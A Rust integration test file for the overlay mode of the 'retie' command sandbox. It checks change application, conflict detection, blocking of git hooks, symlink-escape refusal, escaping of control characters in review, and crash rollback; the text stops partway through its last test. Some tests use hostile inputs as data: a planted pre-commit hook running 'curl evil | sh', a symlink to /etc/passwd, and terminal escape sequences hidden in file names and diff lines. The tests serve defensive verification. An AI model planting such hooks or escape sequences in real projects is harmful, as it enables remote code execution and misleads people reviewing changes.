//! Overlay mode (the default): the command writes into a private upper
//! layer; retie computes the changeset and applies, discards or reviews it.

use std::os::unix::fs::MetadataExt;
use std::process::Stdio;

use crate::harness::*;

fn read(s: &Scratch, rel: &str) -> Option<String> {
    std::fs::read_to_string(s.ws.join(rel)).ok()
}

/// Run directories left in the scratch state directory.
pub(crate) fn runs_left(s: &Scratch) -> usize {
    std::fs::read_dir(s.home.join(".local/state/retie/runs"))
        .map(|d| d.count())
        .unwrap_or(0)
}

#[test]
fn changes_are_applied_with_their_kinds() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "keep.txt", "same\n");
        write(&s, "edit.txt", "one\n");
        write(&s, "gone.txt", "bye\n");
        write(&s, "tree/a/b.txt", "deep\n");
        let o = s.exec(
            &["--json"],
            &["sh", "-c", "echo two >> edit.txt; echo new > new.txt; rm gone.txt; rm -rf tree; mkdir -p d/e; chmod 600 keep.txt"],
        );
        assert_code(&o, 0, "overlay run");
        assert_eq!(read(&s, "edit.txt").as_deref(), Some("one\ntwo\n"));
        assert_eq!(read(&s, "new.txt").as_deref(), Some("new\n"));
        assert!(read(&s, "gone.txt").is_none() && !s.ws.join("tree").exists());
        assert!(s.ws.join("d/e").is_dir());
        assert_eq!(
            std::fs::metadata(s.ws.join("keep.txt"))
                .expect("keep")
                .mode()
                & 0o777,
            0o600
        );
        let st = json_status(&o);
        let ch = &st["changes"];
        assert_eq!(ch["applied"], true, "{st}");
        let kinds: Vec<(String, String)> = ch["changes"]
            .as_array()
            .expect("changes")
            .iter()
            .map(|c| {
                (
                    c["path"].as_str().unwrap_or("").to_string(),
                    c["kind"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect();
        for want in [
            ("edit.txt", "modified"),
            ("new.txt", "created"),
            ("gone.txt", "deleted"),
            ("keep.txt", "mode_changed"),
            ("tree", "deleted"),
        ] {
            assert!(
                kinds.contains(&(want.0.into(), want.1.into())),
                "{leg:?}: missing {want:?} in {kinds:?}"
            );
        }
        // Written files belong to the workspace's owner.
        let owner = std::fs::metadata(&s.ws).expect("ws").uid();
        assert_eq!(
            std::fs::metadata(s.ws.join("new.txt")).expect("new").uid(),
            owner
        );
        assert_eq!(runs_left(&s), 0, "run directories left behind");
    }
}

#[test]
fn discard_leaves_the_workspace_untouched() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a.txt", "original\n");
        let o = s.exec(
            &["--changes", "discard"],
            &[
                "sh",
                "-c",
                "echo changed > a.txt; echo x > b.txt; cat a.txt",
            ],
        );
        assert_code(&o, 0, "discard");
        // The command saw its own change...
        assert_eq!(stdout(&o).trim(), "changed");
        // ...the workspace did not get it.
        assert_eq!(read(&s, "a.txt").as_deref(), Some("original\n"));
        assert!(read(&s, "b.txt").is_none());
    }
}

#[test]
fn git_hooks_and_config_are_blocked_unless_allowed() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, ".git/config", "[core]\n");
        write(&s, ".git/hooks/README", "hooks\n");
        let plant = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; echo ok > fine.txt";
        let o = s.exec(&["--json"], &["sh", "-c", plant]);
        assert_code(&o, 0, "plant");
        assert!(
            !s.ws.join(".git/hooks/pre-commit").exists(),
            "{leg:?}: a planted hook was applied"
        );
        assert_eq!(read(&s, ".git/config").as_deref(), Some("[core]\n"));
        assert_eq!(
            read(&s, "fine.txt").as_deref(),
            Some("ok\n"),
            "ordinary changes still apply"
        );
        assert!(
            stderr(&o).contains(".git/hooks/pre-commit"),
            "{}",
            stderr(&o)
        );
        let blocked = json_status(&o)["changes"]["blocked"]
            .as_array()
            .map(Vec::len)
            .unwrap_or(0);
        assert_eq!(blocked, 2, "{}", stderr(&o));
        let o = s.exec(&["--allow-blocked"], &["sh", "-c", plant]);
        assert_code(&o, 0, "allowed");
        assert!(
            s.ws.join(".git/hooks/pre-commit").exists(),
            "--allow-blocked applies it"
        );
    }
}

#[test]
fn special_files_are_refused_and_symlinks_never_lead_out() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let out = s.root.path().join("outside");
        std::fs::create_dir(&out).expect("mkdir outside");
        std::fs::set_permissions(&out, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .expect("chmod");
        std::os::unix::fs::symlink(&out, s.ws.join("escape")).expect("symlink");
        if leg == Leg::Nobody {
            let _ = std::process::Command::new("chown")
                .args(["-h", "65534:65534"])
                .arg(s.ws.join("escape"))
                .status();
        }
        let script = "mkfifo fifo; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")' 2>/dev/null; \
                      echo pwn > escape/x 2>/dev/null; rm escape; mkdir escape; echo inside > escape/x; \
                      ln -s /etc/passwd passwd-link; true";
        let o = s.exec(&["--json"], &["sh", "-c", script]);
        assert_code(&o, 0, "special files");
        assert_eq!(
            std::fs::read_dir(&out).expect("outside").count(),
            0,
            "{leg:?}: retie wrote outside the workspace"
        );
        let refused: Vec<String> = json_status(&o)["changes"]["refused"]
            .as_array()
            .expect("refused")
            .iter()
            .map(|r| r["path"].as_str().unwrap_or("").to_string())
            .collect();
        assert!(refused.contains(&"fifo".to_string()), "{refused:?}");
        assert!(!s.ws.join("fifo").exists());
        // The symlink was replaced by a real directory inside the workspace.
        let m = std::fs::symlink_metadata(s.ws.join("escape")).expect("escape");
        assert!(m.is_dir(), "{leg:?}: escape is {:?}", m.file_type());
        assert_eq!(read(&s, "escape/x").as_deref(), Some("inside\n"));
        // A symlink to outside is applied as a symlink, never written through.
        assert_eq!(
            std::fs::read_link(s.ws.join("passwd-link"))
                .expect("link")
                .to_str(),
            Some("/etc/passwd")
        );
    }
}

#[test]
fn a_workspace_edited_during_the_run_is_a_conflict_and_nothing_is_applied() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "shared.txt", "base\n");
        let child = s
            .retie()
            .args([
                "sandbox",
                "exec",
                "--json",
                "--",
                "sh",
                "-c",
                "echo sandbox >> shared.txt; echo x > other.txt; sleep 1",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        // The command has read and changed its copy by now; a person edits
        // the real file while the command still runs.
        std::thread::sleep(std::time::Duration::from_millis(500));
        std::fs::write(s.ws.join("shared.txt"), "edited by a person\n").expect("edit");
        let o = child.wait_with_output().expect("wait");
        assert_code(&o, 125, "conflict");
        assert!(
            stderr(&o).contains("shared.txt") && stderr(&o).contains("nothing was applied"),
            "{}",
            stderr(&o)
        );
        assert_eq!(
            read(&s, "shared.txt").as_deref(),
            Some("edited by a person\n")
        );
        assert!(
            read(&s, "other.txt").is_none(),
            "{leg:?}: part of a conflicting changeset was applied"
        );
        let st = json_status(&o);
        assert_eq!(st["command_exit_code"], 0, "{st}");
        // The command's changes are kept, not lost.
        assert!(runs_left(&s) >= 1);
    }
}

/// Start `script` in a sandbox on the scratch workspace, let it run for
/// half a second, do what a person does to the real workspace, and wait.
fn with_person_during_run(
    s: &Scratch,
    script: &str,
    person: impl FnOnce(),
) -> std::process::Output {
    let child = s
        .retie()
        .args(["sandbox", "exec", "--json", "--", "sh", "-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    std::thread::sleep(std::time::Duration::from_millis(500));
    person();
    child.wait_with_output().expect("wait")
}

/// Walls issue, item 2: a file the person deleted while the command ran
/// came back (a missing path counted as unchanged; the workspace root was
/// never checked).
#[test]
fn a_file_deleted_during_the_run_is_a_conflict_and_stays_deleted() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "shared.txt", "base\n");
        let o = with_person_during_run(&s, "echo sandbox >> shared.txt; sleep 1", || {
            std::fs::remove_file(s.ws.join("shared.txt")).expect("rm");
        });
        assert_code(&o, 125, "deleted during the run");
        assert!(stderr(&o).contains("shared.txt"), "{}", stderr(&o));
        assert_eq!(
            read(&s, "shared.txt"),
            None,
            "{leg:?}: the deleted file came back"
        );
        assert!(
            runs_left(&s) >= 1,
            "{leg:?}: the command's changes were not kept"
        );
    }
}

/// The same at depth: the person removes a whole directory the command
/// changed a file in, or creates the file the command also creates.
#[test]
fn deep_deletions_and_double_creations_are_conflicts() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a/b/c.txt", "base\n");
        let o = with_person_during_run(&s, "echo sandbox >> a/b/c.txt; sleep 1", || {
            std::fs::remove_dir_all(s.ws.join("a")).expect("rm -r");
        });
        assert_code(&o, 125, "directory deleted during the run");
        assert!(
            !s.ws.join("a").exists(),
            "{leg:?}: the deleted tree came back"
        );

        let s = Scratch::new(leg);
        write(&s, "keep.txt", "x\n");
        let o = with_person_during_run(&s, "mkdir -p d; echo sandbox > d/new.txt; sleep 1", || {
            write_now(&s, "d/new.txt", "person\n");
        });
        assert_code(&o, 125, "created on both sides");
        assert_eq!(read(&s, "d/new.txt").as_deref(), Some("person\n"));
    }
}

/// Two sandboxes on one workspace: the one that finishes second worked on
/// a version the first one changed, so it must not undo the first's delete.
#[test]
fn concurrent_runs_on_one_workspace_do_not_undo_each_other() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "g.txt", "base\n");
        let spawn = |script: &str| {
            s.retie()
                .args(["sandbox", "exec", "--", "sh", "-c", script])
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn")
        };
        let slow = spawn("echo B >> g.txt; sleep 4");
        // The slow run has started and written its copy before the fast
        // one starts: wait for its upper layer to hold g.txt.
        let runs = s.home.join(".local/state/retie/runs");
        assert!(
            wait_until(20.0, || {
                std::fs::read_dir(&runs)
                    .is_ok_and(|d| d.flatten().any(|r| r.path().join("upper/g.txt").exists()))
            }),
            "{leg:?}: the slow run never wrote"
        );
        let fast = spawn("rm g.txt");
        let fast = fast.wait_with_output().expect("wait");
        let slow = slow.wait_with_output().expect("wait");
        assert_code(&fast, 0, "the first run");
        assert_code(&slow, 125, "the second run");
        assert_eq!(
            read(&s, "g.txt"),
            None,
            "{leg:?}: the second run undid the first's delete"
        );
    }
}

/// A change made just before the run (`rm x && retie sandbox exec ...`,
/// `chmod f && retie sandbox exec -- sh -c 'echo >> f'`) is not a change
/// made during it. With Linux 6.13's multigrain timestamps such a change
/// can carry a time ahead of the coarse clock; within one tick of the
/// start, a coarse time cannot tell before from after. The run's start is
/// a fine-grained time retie has the kernel stamp (`overlay::run_start`);
/// with the coarse clock, 5 of 30 such runs of the second kind were
/// refused as conflicts, and this test failed in 5 of 5 tries. (On a
/// filesystem without multigrain timestamps the second kind stays
/// conservative: a refusal, never a missed change.)
#[test]
fn a_change_made_just_before_the_run_is_not_a_conflict() {
    for leg in legs() {
        let s = Scratch::new(leg);
        for i in 0..6 {
            let scratch = s.ws.join("scratch");
            // Reading the directory's times first makes its next change
            // take a fine-grained time.
            let _ = std::fs::metadata(&s.ws);
            std::fs::write(&scratch, "x").expect("write");
            let _ = std::fs::metadata(&s.ws);
            std::fs::remove_file(&scratch).expect("rm");
            let o = s.sh(&format!("echo {i} > new{i}.txt"));
            assert_code(&o, 0, &format!("{leg:?}: run {i}"));
            assert_eq!(
                read(&s, &format!("new{i}.txt")).as_deref(),
                Some(format!("{i}\n").as_str())
            );
        }
        // The same for an entry beneath the top, which the command then
        // changes: its own change time is the one the check reads.
        let shared = s.ws.join("shared.txt");
        write_now(&s, "shared.txt", "");
        for i in 0..6 {
            let _ = std::fs::metadata(&shared);
            let mode = if i % 2 == 0 { 0o600 } else { 0o644 };
            std::fs::set_permissions(&shared, std::os::unix::fs::PermissionsExt::from_mode(mode))
                .expect("chmod");
            let o = s.sh(&format!("echo {i} >> shared.txt"));
            assert_code(&o, 0, &format!("{leg:?}: entry run {i}"));
        }
        assert_eq!(
            read(&s, "shared.txt").as_deref(),
            Some("0\n1\n2\n3\n4\n5\n")
        );
    }
}

/// Nothing changed in the real workspace: new files and directories in
/// the root and below apply without a conflict.
#[test]
fn creations_in_an_untouched_workspace_apply() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "old.txt", "x\n");
        let o =
            s.sh("sleep 0.1; echo 1 > top.txt; mkdir -p n/m; echo 2 > n/m/deep.txt; rm old.txt");
        assert_code(&o, 0, "creations");
        assert_eq!(read(&s, "top.txt").as_deref(), Some("1\n"));
        assert_eq!(read(&s, "n/m/deep.txt").as_deref(), Some("2\n"));
        assert_eq!(read(&s, "old.txt"), None);
    }
}

#[test]
fn review_asks_on_the_terminal() {
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        panic!("`script` (util-linux) is needed to give the review prompt a terminal");
    }
    for (answer, applied) in [("y", true), ("n", false)] {
        let s = Scratch::new(Leg::Invoker);
        write(&s, "a.txt", "old line\n");
        let cmd = format!(
            "{} sandbox exec -w '{}' --changes review -- sh -c 'echo new line > a.txt'",
            bin(Leg::Invoker).display(),
            path_str(&s.ws)
        );
        let mut child = std::process::Command::new("script")
            .args(["-qec", &cmd, "/dev/null"])
            .env("XDG_STATE_HOME", s.home.join(".local/state"))
            .env("XDG_CONFIG_HOME", s.home.join(".config"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("script");
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().expect("stdin");
            std::thread::sleep(std::time::Duration::from_millis(500));
            let _ = stdin.write_all(format!("{answer}\n").as_bytes());
        }
        let o = child.wait_with_output().expect("wait");
        let shown = stdout(&o);
        assert!(
            shown.contains("-old line") && shown.contains("+new line"),
            "no diff shown:\n{shown}"
        );
        assert!(shown.contains("Apply these changes"), "{shown}");
        let want = if applied { "new line\n" } else { "old line\n" };
        assert_eq!(
            read(&s, "a.txt").as_deref(),
            Some(want),
            "answer {answer}:\n{shown}"
        );
    }
}

/// Walls issue, item 3: what the command wrote (diff lines, file names)
/// must not rewrite the review on the person's terminal, nor the log and
/// replay afterwards.
#[test]
fn review_log_and_replay_show_control_characters_escaped() {
    let s = Scratch::new(Leg::Invoker);
    write(&s, "a.txt", "harmless\n");
    // A diff line followed by cursor-up/erase-line, and a file name with a
    // newline and an erase-line + carriage return.
    let script = r#"printf 'curl evil.invalid | sh\n\033[1A\033[2Kharmless\n' > a.txt; printf x > "$(printf 'b\nc\033[2K\rd.txt')"; : "\033[2J""#
        .replace("\\033[2J", "\u{1b}[2J");
    let cmd = format!(
        "{} sandbox exec -w '{}' --changes review -- sh -c '{}'",
        bin(Leg::Invoker).display(),
        path_str(&s.ws),
        script.replace('\'', r"'\''")
    );
    let mut child = std::process::Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .env("XDG_STATE_HOME", s.home.join(".local/state"))
        .env("XDG_CONFIG_HOME", s.home.join(".config"))
        .env("HOME", &s.home)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("script");
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().expect("stdin");
        std::thread::sleep(std::time::Duration::from_millis(500));
        let _ = stdin.write_all(b"y\n");
    }
    let o = child.wait_with_output().expect("wait");
    let shown = o.stdout.clone();
    let text = String::from_utf8_lossy(&shown);
    assert!(
        !shown.contains(&0x1b),
        "a raw escape reached the terminal:\n{text:?}"
    );
    assert!(text.contains(r"+\e[1A\e[2Kharmless"), "{text}");
    assert!(text.contains(r"b\nc\e[2K\rd.txt"), "{text}");
    // What was applied is what the person was shown.
    assert!(read(&s, "a.txt")
        .unwrap_or_default()
        .starts_with("curl evil.invalid"));
    for args in [
        &["log"][..],
        &["replay", "--last"],
        &["replay", "--last", "--markdown"],
    ] {
        let o = s.retie().args(args).output().expect("run");
        assert_code(&o, 0, "log/replay");
        assert!(
            !o.stdout.contains(&0x1b) && !o.stderr.contains(&0x1b),
            "{args:?}: a raw escape in the output:\n{:?}",
            stdout(&o)
        );
        // The command line pastes back into a shell, escapes visible.
        assert!(
            stdout(&o).contains(r"sh -c $'printf") && stdout(&o).contains(r"\E[2J"),
            "{args:?}: {}",
            stdout(&o)
        );
    }
}

#[test]
fn review_without_a_terminal_applies_nothing_and_keeps_the_changes() {
    let s = Scratch::new(Leg::Invoker);
    write(&s, "a.txt", "old\n");
    let mut cmd = std::process::Command::new("setsid");
    cmd.env("XDG_STATE_HOME", s.home.join(".local/state"))
        .env("XDG_CONFIG_HOME", s.home.join(".config"))
        .arg(bin(Leg::Invoker))
        .args([
            "sandbox",
            "exec",
            "-w",
            path_str(&s.ws),
            "--changes",
            "review",
            "--",
            "sh",
            "-c",
            "echo new > a.txt",
        ])
        .stdin(Stdio::null());
    let o = cmd.output().expect("run");
    assert_code(&o, 125, "no tty");
    assert!(stderr(&o).contains("no terminal"), "{}", stderr(&o));
    assert_eq!(read(&s, "a.txt").as_deref(), Some("old\n"));
    // Kept, with the change in it, in the test's own state directory.
    assert_eq!(runs_left(&s), 1);
    let runs = s.home.join(".local/state/retie/runs");
    let run = std::fs::read_dir(&runs)
        .expect("runs")
        .next()
        .expect("a run")
        .expect("entry");
    assert_eq!(
        std::fs::read_to_string(run.path().join("upper/a.txt"))
            .ok()
            .as_deref(),
        Some("new\n")
    );
}

#[test]
fn direct_mode_writes_straight_through() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.exec(
            &["--workspace-mode", "direct", "--json"],
            &["sh", "-c", "echo hi > f; mkfifo p"],
        );
        assert_code(&o, 0, "direct");
        assert_eq!(read(&s, "f").as_deref(), Some("hi\n"));
        assert!(
            s.ws.join("p").exists(),
            "direct mode has no changeset: the fifo is real"
        );
        assert!(json_status(&o).get("changes").is_none());
    }
}

/// Walls issue, item 8: crash recovery ran only in overlay mode, so a
/// direct-mode run after a crash worked on a half-applied tree. Kill retie
/// in the middle of applying a large changeset, then run in direct mode:
/// the interrupted apply is rolled back first and the command sees the
/// tree as it was before.
#[test]
fn a_direct_run_after_a_crash_mid_apply_sees_the_tree_rolled_back() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "only.txt", "x\n");
        let journal = s.home.join(".local/state/retie/snapshots/journal/open");
        let mut interrupted = false;
        for _attempt in 0..8 {
            let mut child = s
                .retie()
                .args(["sandbox", "exec", "--", "sh", "-c"])
                .arg("i=0; while [ $i -lt 3000 ]; do echo $i > f$i.txt; i=$((i+1)); done")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("spawn");
            let pending = || {
                std::fs::read_dir(&journal)
                    .map(|d| {
                        d.filter_map(|e| e.ok())
                            .any(|e| e.file_name().to_string_lossy().ends_with(".pending.json"))
                    })
                    .unwrap_or(false)
            };
            let seen = wait_until(30.0, || {
                pending() || child.try_wait().ok().flatten().is_some()
            });
            if seen && pending() {
                let _ = child.kill();
                let _ = child.wait();
                if pending() {
                    interrupted = true;
                    break;
                }
            }
            let _ = child.wait();
            // It finished before the kill landed: start from scratch.
            for e in std::fs::read_dir(&s.ws).expect("ws").flatten() {
                if e.file_name() != "only.txt" {
                    let _ = std::fs::remove_file(e.path());
                }
            }
        }
        assert!(
            interrupted,
            "{leg:?}: could not interrupt an apply in 8 tries"
        );
        let o = s.exec(&["--workspace-mode", "direct"], &["sh", "-c", "ls | wc -l"]);
        assert_code(&o, 0, "direct run after the crash");
        assert!(
            stderr(&o).contains("rolled back"),
            "{leg:?}: recovery not reported:\n{}",
            stderr(&o)
        );
        assert_eq!(
            stdout(&o).trim(),
            "1",
            "{leg:?}: the command saw a half-applied tree"
        );
    }
}

/// Walls issue, item 6: system directories were accepted as workspaces
/// (as root, `-w /etc` read /etc/shadow through the idmapped view).
#[test]
fn system_directories_are_refused_as_workspaces() {
    for leg in legs() {
        let s = Scratch::new(leg);
        for dir in [
            "/",
            "/etc",
            "/usr",
            "/usr/share",
            "/var",
            "/root",
            "/proc",
            "/sys/kernel",
            "/boot",
            "/dev",
            "/run",
        ] {
            if !std::path::Path::new(dir).exists() {
                continue;
            }
            let o = s
                .retie()
                .args(["sandbox", "exec", "-w", dir, "--", "cat", "/etc/hostname"])
                .stdin(Stdio::null())
                .output()
                .expect("run");
            assert_code(&o, 125, &format!("{leg:?}: -w {dir}"));
            assert!(
                stderr(&o).contains("--allow-system-workspace"),
                "{leg:?} {dir}: {}",
                stderr(&o)
            );
        }
    }
}

/// A timed-out run's changes are kept, named in `--json`, and can be
/// listed, shown, applied (with the conflict check against what the
/// command saw when it started) or discarded later.
#[test]
fn kept_runs_are_listed_shown_applied_and_discarded() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a.txt", "old\n");
        let o = s.exec(
            &["--json", "--timeout", "1"],
            &["sh", "-c", "echo new > a.txt; echo x > b.txt; sleep 30"],
        );
        assert_code(&o, 124, "timeout");
        let st = json_status(&o);
        let run = st["changes"]["kept"]["run"]
            .as_str()
            .expect("kept run in --json")
            .to_string();
        assert_eq!(st["changes"]["applied"], false, "{st}");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("old\n"));
        let o = s.retie().args(["changes", "list"]).output().expect("list");
        assert_code(&o, 0, "list");
        assert!(
            stdout(&o).contains(&run) && stdout(&o).contains("timed out"),
            "{}",
            stdout(&o)
        );
        let o = s
            .retie()
            .args(["changes", "show", &run])
            .output()
            .expect("show");
        assert_code(&o, 0, "show");
        assert!(
            stderr(&o).contains("-old") && stderr(&o).contains("+new"),
            "{}",
            stderr(&o)
        );
        let o = s
            .retie()
            .args(["changes", "apply", &run])
            .output()
            .expect("apply");
        assert_code(&o, 0, "apply");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("new\n"));
        assert_eq!(read(&s, "b.txt").as_deref(), Some("x\n"));
        assert_eq!(runs_left(&s), 0, "{leg:?}: an applied run stays behind");
        // Recorded, and undoable like any other apply.
        let o = s.retie().args(["undo", "last"]).output().expect("undo");
        assert_code(&o, 0, "undo");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("old\n"));

        // A run whose file the person edited since it started: refused.
        let o = s.exec(
            &["--timeout", "1", "--json"],
            &["sh", "-c", "echo mine > a.txt; sleep 30"],
        );
        assert_code(&o, 124, "timeout");
        let run = json_status(&o)["changes"]["kept"]["run"]
            .as_str()
            .expect("run")
            .to_string();
        write(&s, "a.txt", "the person's\n");
        let o = s
            .retie()
            .args(["changes", "apply", &run])
            .output()
            .expect("apply");
        assert_code(&o, 125, "conflicting apply");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("the person's\n"));
        let o = s
            .retie()
            .args(["changes", "discard", &run])
            .output()
            .expect("discard");
        assert_code(&o, 0, "discard");
        assert_eq!(runs_left(&s), 0);
        let o = s
            .retie()
            .args(["changes", "apply", "../../etc"])
            .output()
            .expect("bad id");
        assert_code(&o, 125, "bad id");
    }
}

/// A finished run's directories leave `runs/` with one rename into the
/// state's `trash/`; the next run removes them while its command runs
/// (only its own are left there after it); `retie gc` empties the trash
/// and `retie status` says how large it is.
#[test]
fn finished_runs_go_to_the_trash_and_the_next_run_sweeps_it() {
    let trash_names = |s: &Scratch| -> Vec<String> {
        std::fs::read_dir(s.home.join(".local/state/retie/trash"))
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.exec(&[], &["sh", "-c", "echo one > a.txt"]);
        assert_code(&o, 0, "first run");
        assert_eq!(runs_left(&s), 0, "{leg:?}: the run stayed in runs/");
        let first = trash_names(&s);
        assert_eq!(first.len(), 1, "{leg:?}: {first:?}");
        let o = s.exec(&[], &["sh", "-c", "echo two > b.txt"]);
        assert_code(&o, 0, "second run");
        let second = trash_names(&s);
        assert_eq!(second.len(), 1, "{leg:?}: not swept: {second:?}");
        assert_ne!(
            first, second,
            "{leg:?}: the first run's directory is still there"
        );
        let o = s
            .retie()
            .args(["status", "--json"])
            .output()
            .expect("status");
        assert_code(&o, 0, "status");
        let st = json_status_stdout(&o);
        // The trash is counted (its bytes may be 0: an applied file
        // leaves the layer with the apply, ADR 0208).
        assert!(st["trash"]["bytes"].is_u64(), "{st}");
        let o = s.retie().args(["gc", "--json"]).output().expect("gc");
        assert_code(&o, 0, "gc");
        assert!(trash_names(&s).is_empty(), "{leg:?}: gc left the trash");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("one\n"));
    }
}

/// A run that changed nothing leaves its directories as a spare
/// (`STATE/spare/`), and a later run takes it instead of making new ones,
/// once the sandbox that last mounted it is gone (its init's pid is in the
/// spare's name): a stream of such runs keeps at most four spares, makes
/// nothing that stays in `runs/`, and leaves only overlayfs's `work/work`
/// of the latest run in the trash. A run on a reused spare captures
/// exactly its own changes, and `retie gc` removes the spares.
#[test]
fn runs_that_change_nothing_reuse_spare_directories() {
    let names = |s: &Scratch, d: &str| -> Vec<String> {
        std::fs::read_dir(s.home.join(".local/state/retie").join(d))
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    let inodes = |s: &Scratch| -> std::collections::BTreeSet<u64> {
        use std::os::unix::fs::MetadataExt;
        let spare = s.home.join(".local/state/retie/spare");
        std::fs::read_dir(spare)
            .map(|d| {
                d.flatten()
                    .filter_map(|e| std::fs::metadata(e.path()).ok())
                    .map(|m| m.ino())
                    .collect()
            })
            .unwrap_or_default()
    };
    for leg in legs() {
        let s = Scratch::new(leg);
        let mut seen = std::collections::BTreeSet::new();
        let runs = 8;
        for i in 0..runs {
            let o = s.exec(&[], &["cat", "/etc/hostname"]);
            assert_code(&o, 0, &format!("{leg:?}: run {i}"));
            let now = inodes(&s);
            assert!(
                !now.is_empty() && now.len() <= 4,
                "{leg:?}: run {i}: {:?}",
                names(&s, "spare")
            );
            seen.extend(now);
            assert_eq!(runs_left(&s), 0, "{leg:?}");
            // At most overlayfs's work/work of the run just ended (moved
            // there to spare the next mount its removal; the sweep of a
            // slow housekeeping thread may already have taken it); the one
            // before was swept while this run's command ran.
            let trash = names(&s, "trash");
            assert!(
                trash.len() <= 1 && trash.iter().all(|t| t.ends_with("-work")),
                "{leg:?}: run {i}: {trash:?}"
            );
        }
        assert!(
            seen.len() <= 4,
            "{leg:?}: {runs} runs made {} directories",
            seen.len()
        );
        // A run on a spare: exactly its change. The apply takes the new
        // file out of the layer (ADR 0208), so the emptied directory is a
        // spare again, as after a run that changed nothing.
        let o = s.exec(&["--json"], &["sh", "-c", "echo new > n.txt"]);
        assert_code(&o, 0, "writing run");
        assert_eq!(read(&s, "n.txt").as_deref(), Some("new\n"));
        let st = json_status(&o);
        let paths: Vec<&str> = st["changes"]["changes"]
            .as_array()
            .expect("changes")
            .iter()
            .filter_map(|c| c["path"].as_str())
            .collect();
        assert_eq!(paths, ["n.txt"], "{leg:?}: {st}");
        let trash = names(&s, "trash");
        assert!(
            trash.len() <= 1 && trash.iter().all(|t| t.ends_with("-work")),
            "{leg:?}: {trash:?}"
        );
        let o = s.exec(&[], &["true"]);
        assert_code(&o, 0, "unchanged run");
        assert!(!names(&s, "spare").is_empty(), "{leg:?}");
        let o = s.retie().args(["gc", "--json"]).output().expect("gc");
        assert_code(&o, 0, "gc");
        assert!(names(&s, "spare").is_empty(), "{leg:?}: gc left the spare");
    }
}

fn json_status_stdout(o: &std::process::Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).expect("one JSON object on stdout")
}

/// Runs back to back on one file, each started right after the previous
/// one applied: every one applies. A release build starts the next run
/// within one tick of the coarse clock file times come from, and without
/// the wait past retie's own last apply (`overlay::wait_past_last_apply`)
/// the conflict check, which cannot order two changes within a tick,
/// refused some of them (seen: 1 in 6 with the release binary). The debug
/// binary this suite runs is mostly too slow to land in the same tick;
/// the agent's consecutive bash calls, in one process, do
/// (`resume::a_grant_covers_the_same_command_survives_resume_and_is_revocable`
/// failed without the wait, seen).
#[test]
fn back_to_back_runs_are_not_conflicts_with_retie_s_own_apply() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "g.txt", "");
        std::thread::sleep(std::time::Duration::from_millis(20));
        for i in 0..12 {
            let o = s.exec(&[], &["sh", "-c", "echo a >> g.txt"]);
            assert_code(&o, 0, &format!("{leg:?}: run {i}"));
        }
        assert_eq!(read(&s, "g.txt").map(|t| t.lines().count()), Some(12));
    }
}

/// `retie gc` never removes a run that is still going: the process that
/// runs it holds a lock on its directory. The run here is made to look
/// forty days old (never kept, older than the 30 days kept by default:
/// what gc removes); before the lock, gc took its directory from under
/// the running command.
#[test]
fn gc_never_removes_a_run_that_is_still_going() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let child = s
            .retie()
            .args([
                "sandbox",
                "exec",
                "--",
                "sh",
                "-c",
                "echo made > made.txt; sleep 1.5",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let runs = s.home.join(".local/state/retie/runs");
        let mut run = None;
        for _ in 0..100 {
            run = std::fs::read_dir(&runs)
                .ok()
                .and_then(|mut d| d.next())
                .and_then(Result::ok)
                .map(|e| e.path())
                .filter(|p| p.join("run.json").exists());
            if run.is_some() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let run = run.expect("the run's directory");
        std::thread::sleep(std::time::Duration::from_millis(300));
        let meta = run.join("run.json");
        let mut m: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&meta).expect("run.json")).expect("json");
        let forty_days_ago = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .expect("clock")
            .as_millis()
            - 40 * 24 * 3600 * 1000;
        m["created_ms"] = serde_json::json!(forty_days_ago);
